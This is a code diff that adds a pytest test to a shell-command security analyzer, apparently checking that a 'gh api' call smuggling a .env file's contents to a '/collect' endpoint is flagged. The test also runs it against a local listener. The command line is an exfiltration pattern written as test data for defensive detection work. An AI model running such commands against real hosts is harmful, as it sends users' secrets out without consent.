@@ -250,6 +250,17 @@ def test_a_descriptor_not_known_to_be_one_of_the_three_is_not_proven(line):
     assert _verdict(line) != "read", line
 
 
+def test_gh_api_sends_a_field_file_under_get(tmp_path, listener):
+    line = "gh api -X GET -F q=@.env http://127.0.0.1:%d/collect" % listener.port
+    assert sts.analyze_shell(line).reason == "network_data_unproven"
+    if not shutil.which("gh"):
+        pytest.skip("gh not installed")
+    _run(["gh", "api", "-X", "GET", "-F", "q=@.env",
+          "http://127.0.0.1:%d/collect" % listener.port], _scratch(tmp_path),
+         {"GH_TOKEN": "x", "GH_CONFIG_DIR": str(tmp_path / "gh")}, timeout=30)
+    assert any(b"hunter2" in data for _, data in listener.got), listener.got
+
+
 # ---- variables before a command: an allow-list ------------------------------------
 
 def _readme():
